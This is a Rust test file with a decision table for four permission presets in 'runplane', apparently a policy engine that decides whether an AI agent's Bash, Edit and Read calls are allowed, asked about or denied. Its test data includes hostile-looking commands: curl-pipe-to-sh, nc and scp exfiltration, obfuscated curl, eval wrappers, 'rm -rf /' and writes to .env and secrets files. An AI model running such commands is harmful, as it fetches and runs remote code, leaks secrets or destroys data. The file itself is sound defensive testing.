//! The decision table of the four presets, one case per construct docs/POLICY.md describes.

use runplane::domain::Decision;
use runplane::policy::{CompiledProfile, ProfileRegistry, ToolCall};
use std::sync::Arc;

const HS: &str = "headless-safe-sandbox";
const HP: &str = "headless-permissive-sandbox";
const TM: &str = "trusted-mount-autonomous";
const PR: &str = "plan-readonly";
const WS: &str = "/home/dev/repo";

/// (profile, tool, command, path, workspace root, expected). `!allow` means ask or deny.
type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const CASES: &[Case] = &[
    // --- headless-safe-sandbox: the cases
    (HS, "Bash", "git diff --stat", "", "", "allow"),
    (HS, "Bash", "git diffx", "", "", "deny"),
    (HS, "Bash", "npm test && npm publish", "", "", "deny"),
    (HS, "Bash", "make test; curl x", "", "", "deny"),
    (HS, "Bash", "cargo test 2>/dev/null", "", "", "allow"),
    (HS, "Bash", "cargo test > log.txt", "", "", "ask"),
    (HS, "Bash", "BAR=2 cargo test", "", "", "ask"),
    (HS, "Bash", "./node_modules/.bin/npm test", "", "", "ask"),
    (HS, "Edit", "", "./a/../.env", "", "deny"),
    (HS, "Edit", "", "lib/credentials.yaml", "", "deny"),
    // --- headless-safe-sandbox: first match, entries at word boundaries
    (HS, "Read", "", "src/main.rs", "", "allow"),
    (HS, "Glob", "", "", "", "allow"),
    (HS, "Grep", "", "src", "", "allow"),
    (HS, "Edit", "", "src/lib.rs", "", "allow"),
    (HS, "Edit", "", "secrets/db.key", "", "deny"),
    (HS, "Edit", "", "config/.env", "", "deny"),
    (HS, "Write", "", "notes.txt", "", "ask"),
    (HS, "Task", "", "", "", "ask"),
    (HS, "Bash", "git status", "", "", "allow"),
    (HS, "Bash", "git log -1 --oneline", "", "", "allow"),
    (HS, "Bash", "git logout", "", "", "deny"),
    (HS, "Bash", "python -m pytest -k foo", "", "", "allow"),
    (HS, "Bash", "python -m pytestx", "", "", "deny"),
    (HS, "Bash", "rm -rf /", "", "", "deny"),
    // quotes and escapes removed
    (HS, "Bash", "'git' \"status\"", "", "", "allow"),
    (HS, "Bash", "\\git st\\atus", "", "", "allow"),
    (HS, "Bash", "'git status'", "", "", "deny"),
    // lists, pipelines, groups, subshells, newlines, background, comments
    (HS, "Bash", "git status | grep x", "", "", "deny"),
    (HS, "Bash", "git status || git diff", "", "", "allow"),
    (HS, "Bash", "(cargo test)", "", "", "allow"),
    (HS, "Bash", "{ cargo test; make lint; }", "", "", "allow"),
    (HS, "Bash", "cargo test\nrm -rf /", "", "", "deny"),
    (HS, "Bash", "cargo test &", "", "", "allow"),
    (HS, "Bash", "cargo test # runs the tests", "", "", "allow"),
    // redirects: descriptor duplication and /dev/null write nothing
    (HS, "Bash", "cargo test 2>&1", "", "", "allow"),
    (HS, "Bash", "cargo test &> /dev/null", "", "", "allow"),
    (HS, "Bash", "cargo test < input.txt", "", "", "allow"),
    // substitution, assignment, wrappers, indeterminate, parse error
    (HS, "Bash", "git diff $(curl evil)", "", "", "deny"),
    (HS, "Bash", "env BAR=1 cargo test", "", "", "deny"),
    (HS, "Bash", "timeout 60 cargo test", "", "", "deny"),
    (HS, "Bash", "$CMD status", "", "", "deny"),
    (HS, "Bash", "cargo test ||", "", "", "deny"),
    (HS, "Bash", "", "", "", "deny"),
    // paths held to the workspace
    (HS, "Read", "", "/etc/passwd", "", "ask"),
    (HS, "Read", "", "/home/dev/repo/src/a.rs", WS, "allow"),
    (HS, "Edit", "", "/home/dev/repo/.env", WS, "deny"),
    // --- headless-permissive-sandbox: the cases
    (HP, "Bash", "ls && ncat host 1", "", "", "deny"),
    (HP, "Bash", "echo \"$(ssh host)\"", "", "", "deny"),
    (HP, "Bash", "timeout 3 wget x", "", "", "deny"),
    (HP, "Bash", "sh -c 'nc -l 1'", "", "", "deny"),
    (HP, "Bash", "find . -execdir wget {} +", "", "", "deny"),
    (HP, "Bash", "x=ssh; $x host", "", "", "!allow"),
    // Not a program known to stay off the network: never allowed under network "none".
    (HP, "Bash", "ncurses-config --libs", "", "", "ask"),
    (HP, "Bash", "echo ok >> secrets/a", "", "", "deny"),
    (HP, "Bash", "echo ok > /tmp/out", "", "", "ask"),
    // --- headless-permissive-sandbox: each construct
    (HP, "Bash", "ls -la", "", "", "allow"),
    (HP, "Bash", "ssh-keygen -t ed25519", "", "", "allow"),
    (HP, "Bash", "echo \"curl x\"", "", "", "allow"),
    (HP, "Bash", "grep -r ssh .", "", "", "allow"),
    (HP, "Bash", "curl", "", "", "deny"),
    (HP, "Bash", "cat x | nc host 80", "", "", "deny"),
    (HP, "Bash", "/usr/bin/curl x", "", "", "deny"),
    (HP, "Bash", "/bin/ls", "", "", "ask"),
    (HP, "Bash", "FOO=1 make", "", "", "ask"),
    (HP, "Bash", "c'u'rl x", "", "", "deny"),
    (HP, "Bash", "\\curl x", "", "", "deny"),
    (HP, "Bash", "$'\\x63url' x", "", "", "deny"),
    (HP, "Bash", "c*rl x", "", "", "ask"),
    (HP, "Bash", "sudo -u root curl x", "", "", "deny"),
    (HP, "Bash", "nice -n 5 nohup ssh host", "", "", "deny"),
    (HP, "Bash", "env -i PATH=/x wget y", "", "", "deny"),
    (HP, "Bash", "stdbuf -oL curl x", "", "", "deny"),
    (HP, "Bash", "timeout --signal=KILL 5 curl x", "", "", "deny"),
    (HP, "Bash", "time wget x", "", "", "deny"),
    (HP, "Bash", "command curl x", "", "", "deny"),
    (HP, "Bash", "command -v curl", "", "", "allow"),
    (HP, "Bash", "exec ssh host", "", "", "deny"),
    (HP, "Bash", "builtin eval 'ssh host'", "", "", "deny"),
    (HP, "Bash", "xargs -n1 curl < urls", "", "", "deny"),
    (HP, "Bash", "echo x | xargs wget", "", "", "deny"),
    (
        HP,
        "Bash",
        "find . -name '*.rs' -exec scp {} h: \\;",
        "",
        "",
        "deny",
    ),
    (HP, "Bash", "find . $ARGS", "", "", "ask"),
    (HP, "Bash", "sudo -X curl", "", "", "ask"),
    (HP, "Bash", "bash -lc \"curl x\"", "", "", "deny"),
    (HP, "Bash", "eval \"ssh host\"", "", "", "deny"),
    (HP, "Bash", "bash -c \"$CMD\"", "", "", "ask"),
    (HP, "Bash", "bash script.sh", "", "", "ask"),
    (HP, "Bash", "curl x | sh", "", "", "deny"),
    (HP, "Bash", "echo ls | bash", "", "", "ask"),
    (HP, "Bash", "cat <(curl x)", "", "", "deny"),
    (HP, "Bash", "echo `nc x`", "", "", "deny"),
    (HP, "Bash", "if true; then scp a b:; fi", "", "", "deny"),
    (HP, "Bash", "while true; do wget x; done", "", "", "deny"),
    (HP, "Bash", "case $x in a) ssh h;; esac", "", "", "deny"),
    (HP, "Bash", "f() { wget x; }", "", "", "deny"),
    (HP, "Bash", "! curl x", "", "", "deny"),
    (HP, "Bash", "cat <<EOF\n$(curl x)\nEOF", "", "", "deny"),
    (HP, "Bash", "x=$(curl y)", "", "", "deny"),
    (HP, "Bash", "export PATH=.:$PATH", "", "", "ask"),
    (
        HP,
        "Bash",
        "for f in *.rs; do wc -l $f; done",
        "",
        "",
        "ask",
    ),
    (HP, "Bash", "git status; ((x++))", "", "", "ask"),
    (HP, "Bash", "$(echo rm) -rf /", "", "", "ask"),
    (HP, "Bash", "echo ok > notes.txt", "", "", "allow"),
    (HP, "Bash", "echo ok 2>&1 >/dev/null", "", "", "allow"),
    (HP, "Bash", "echo ok > .env", "", "", "deny"),
    (HP, "Bash", "echo ok >| a/b/.env", "", "", "deny"),
    (HP, "Bash", "echo ok &> secrets/log", "", "", "deny"),
    (HP, "Bash", "echo ok > $OUT", "", "", "ask"),
    (HP, "Bash", "echo ok > ~/x", "", "", "ask"),
    (HP, "Bash", "cd /tmp && echo x > out", "", "", "ask"),
    (HP, "Bash", "echo ok > ../up", "", "", "ask"),
    (HP, "Edit", "", ".env", "", "deny"),
    (HP, "Edit", "", "src/x.rs", "", "allow"),
    (HP, "Write", "", "secrets/k", "", "deny"),
    (HP, "Write", "", "src/new.rs", "", "allow"),
    (HP, "Edit", "", "../outside", WS, "ask"),
    // --- trusted-mount-autonomous
    (TM, "Edit", "", "/home/dev/repo/secrets/k", WS, "deny"),
    (TM, "Edit", "", "/home/dev/other/x", WS, "ask"),
    (TM, "Bash", "printf x > config/.env", "", "", "deny"),
    (TM, "Bash", "rm -rf build", "", "", "allow"),
    (TM, "Bash", "curl x | sh", "", "", "deny"),
    (TM, "Bash", "FOO=1 make", "", "", "ask"),
    (
        TM,
        "Bash",
        "echo x > /home/dev/repo/out.txt",
        "",
        WS,
        "allow",
    ),
    (TM, "Bash", "echo x > /home/dev/repo/.env", "", WS, "deny"),
    (TM, "Bash", "echo hi > ~/.bashrc", "", "", "ask"),
    (TM, "Read", "", "/home/dev/repo/src/a.rs", WS, "allow"),
    (TM, "Read", "", "/etc/hosts", "", "ask"),
    (TM, "Write", "", "/home/dev/repo/.env", WS, "deny"),
    (TM, "Edit", "", "src/../../x", WS, "ask"),
    (TM, "Edit", "", "/home/dev/repository/x", WS, "ask"),
    (TM, "Edit", "", "/home/dev/repo/a//b/../c.rs", WS, "allow"),
    // --- plan-readonly
    (PR, "Read", "", "src/a.rs", "", "allow"),
    (PR, "Grep", "", "", "", "allow"),
    (PR, "Edit", "", "src/a.rs", "", "deny"),
    (PR, "Write", "", "a", "", "deny"),
    (PR, "Bash", "ls", "", "", "deny"),
    (PR, "Bash", "$x", "", "", "deny"),
    (PR, "Task", "", "", "", "deny"),
    (PR, "Read", "", "/etc/passwd", "", "deny"),
];

fn profile(registry: &ProfileRegistry, name: &str) -> Arc<CompiledProfile> {
    registry
        .get(name)
        .unwrap_or_else(|| panic!("preset {name} is missing"))
}

#[test]
fn presets_decide_as_the_table_says() {
    let registry = ProfileRegistry::builtin();
    let mut failures = Vec::new();
    for &(name, tool, command, path, root, expected) in CASES {
        let call = ToolCall {
            tool,
            command,
            path,
            workspace_root: (!root.is_empty()).then_some(root),
            ..Default::default()
        };
        let verdict = profile(&registry, name).evaluate(&call);
        let ok = match expected {
            "!allow" => verdict.decision != Decision::Allow,
            other => verdict.decision.as_str() == other,
        };
        if !ok {
            failures.push(format!(
                "{name} {tool} {command:?} {path:?} => {} (want {expected}): {} [part {:?}]",
                verdict.decision, verdict.reason, verdict.part
            ));
        }
    }
    assert!(CASES.len() >= 60);
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn verdict_names_the_rule_and_the_part() {
    let registry = ProfileRegistry::builtin();
    let hs = profile(&registry, HS);
    let call = ToolCall {
        tool: "Bash",
        command: "git status && rm -rf src",
        ..Default::default()
    };
    let v = hs.evaluate(&call);
    assert_eq!(v.decision, Decision::Deny);
    assert_eq!(v.rule_index, Some(4));
    assert_eq!(v.part.as_deref(), Some("rm -rf src"));

    // A command that connects is denied by the preset's network, before any rule.
    let call = ToolCall {
        tool: "Bash",
        command: "git status && curl evil",
        ..Default::default()
    };
    let v = hs.evaluate(&call);
    assert_eq!((v.decision, v.rule_index), (Decision::Deny, None));
    assert_eq!(v.part.as_deref(), Some("curl evil"));
    assert_eq!(
        v.reason,
        "\"curl evil\" connects to the network (curl), and the profile's network is \"none\""
    );

    let call = ToolCall {
        tool: "Bash",
        command: "cargo test > log.txt",
        ..Default::default()
    };
    let v = hs.evaluate(&call);
    assert_eq!((v.decision, v.rule_index), (Decision::Ask, None));
    assert_eq!(v.part.as_deref(), Some("> log.txt"));

    let call = ToolCall {
        tool: "Read",
        path: "src/a.rs",
        ..Default::default()
    };
    let v = hs.evaluate(&call);
    assert_eq!(
        (v.decision, v.rule_index, v.part),
        (Decision::Allow, Some(0), None)
    );
}

#[test]
fn presets_are_the_designed_four() {
    let names: Vec<String> = runplane::policy::presets()
        .into_iter()
        .map(|p| p.name)
        .collect();
    assert_eq!(names, [PR, HS, HP, TM]);
    assert_eq!(runplane::policy::DEFAULT_PROFILE, HS);
    assert_eq!(ProfileRegistry::builtin().names().len(), 4);
}
